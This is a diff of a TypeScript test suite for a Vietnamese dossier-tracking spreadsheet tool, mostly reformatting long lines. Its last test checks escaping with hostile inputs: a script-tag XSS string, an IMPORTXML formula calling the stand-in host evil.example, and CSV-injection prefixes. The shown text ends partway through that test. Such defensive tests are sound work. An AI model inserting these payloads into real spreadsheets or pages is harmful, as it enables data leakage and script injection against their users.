@@ -28,7 +28,11 @@ describe('dossier updates', () => {
       'Từ chối giải quyết',
       'Dừng giải quyết',
     ]);
-    expect(byCode.ok && byCode.dossier).toMatchObject({ status: 'Đã tiếp nhận', appointment: '17 giờ 00, ngày 11/03/2026', deadline: 'Trong hạn' });
+    expect(byCode.ok && byCode.dossier).toMatchObject({
+      status: 'Đã tiếp nhận',
+      appointment: '17 giờ 00, ngày 11/03/2026',
+      deadline: 'Trong hạn',
+    });
     world.run({ user: 'canbo@example.gov.vn', spreadsheetId: book.id }, (s) => {
       (s.spreadsheetApp.getActiveSpreadsheet() as LocalSpreadsheet).select(TABS.register, 'D2');
       const selected = lookupDossier(s);
@@ -40,12 +44,22 @@ describe('dossier updates', () => {
     const { run, code, world } = withDossier();
     const step = (input: Record<string, unknown>) => run((s) => submitUpdate(s, { requestId: req(), code, ...input }));
     expect(step({ action: 'transfer', at: '2026-03-02T09:00', department: 'Công an xã' })).toMatchObject({ ok: true });
-    const supplement = step({ action: 'request-supplement', at: '2026-03-03T10:00', missing: 'Bản sao giấy khai sinh', reason: 'Thiếu giấy tờ' });
+    const supplement = step({
+      action: 'request-supplement',
+      at: '2026-03-03T10:00',
+      missing: 'Bản sao giấy khai sinh',
+      reason: 'Thiếu giấy tờ',
+    });
     expect(supplement).toMatchObject({ ok: true, form: 'supplement', warnings: [] });
     world.clock.advance(4 * 86400000);
     const arrived = step({ action: 'receive-supplement', at: '2026-03-05T14:00' });
     expect(arrived.ok && arrived.dossier.appointment).toBe('17 giờ 00, ngày 16/03/2026'); // 7 working days from Thu 5/3 (tính lại)
-    const apology = step({ action: 'apologise', at: '2026-03-12T09:00', newDueAt: '2026-03-18T17:00', reason: 'Chờ xác minh của công an huyện' });
+    const apology = step({
+      action: 'apologise',
+      at: '2026-03-12T09:00',
+      newDueAt: '2026-03-18T17:00',
+      reason: 'Chờ xác minh của công an huyện',
+    });
     expect(apology).toMatchObject({ ok: true, form: 'apology' });
     expect(step({ action: 'apologise', at: '2026-03-12T09:30', newDueAt: '2026-03-19T17:00', reason: 'Lần hai' })).toEqual({
       ok: false,
@@ -69,7 +83,12 @@ describe('dossier updates', () => {
       expect(row[col('Mức độ hài lòng') - 1]).toBe('Hài lòng');
       expect(row[col('Cơ quan giải quyết') - 1]).toBe('Công an xã');
       const log = ss.getSheetByName(TABS.log)!;
-      expect(log.getRange(2, 4, log.getLastRow() - 1, 1).getValues().map((r) => r[0])).toEqual([
+      expect(
+        log
+          .getRange(2, 4, log.getLastRow() - 1, 1)
+          .getValues()
+          .map((r) => r[0]),
+      ).toEqual([
         'Tiếp nhận hồ sơ',
         'Chuyển xử lý',
         'Yêu cầu bổ sung hồ sơ',
@@ -85,11 +104,16 @@ describe('dossier updates', () => {
     const { run, code } = withDossier();
     run((_s, ss) => ss.getSheetByName(TABS.register)!.getRange(2, col('Trạng thái')).setValue('Đã trả kết quả'));
     const lookup = run((s) => lookupDossier(s, code));
-    expect(lookup).toEqual({ ok: false, message: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả.` });
+    expect(lookup).toEqual({
+      ok: false,
+      message: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả.`,
+    });
     const update = run((s) => submitUpdate(s, { requestId: req(), code, action: 'stop', at: '2026-03-02T09:00', reason: 'Rút' }));
     expect(update).toEqual({
       ok: false,
-      errors: { code: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả. Hãy sửa dòng này trước.` },
+      errors: {
+        code: `Dòng 2 (mã ${code}): trạng thái “Đã trả kết quả” nhưng chưa có ngày trả kết quả. Hãy sửa dòng này trước.`,
+      },
     });
     run((_s, ss) => expect(ss.getSheetByName(TABS.register)!.getRange(2, col('Trạng thái')).getValue()).toBe('Đã trả kết quả'));
   });
@@ -97,7 +121,16 @@ describe('dossier updates', () => {
   it('keeps the reasons of the update form literal and escapes them on the printed form', () => {
     const { run, code } = withDossier({ applicantName: '<script>alert("x")</script>' });
     const reason = '=IMPORTXML("http://evil.example","//a") <b>gấp</b>';
-    run((s) => submitUpdate(s, { requestId: req(), code, action: 'request-supplement', at: '2026-03-02T09:00', missing: '@x, -1, +84', reason }));
+    run((s) =>
+      submitUpdate(s, {
+        requestId: req(),
+        code,
+        action: 'request-supplement',
+        at: '2026-03-02T09:00',
+        missing: '@x, -1, +84',
+        reason,
+      }),
+    );
     run((_s, ss) => {
       const log = ss.getSheetByName(TABS.log)!;
       const note = log.getRange(3, 7).getValue();
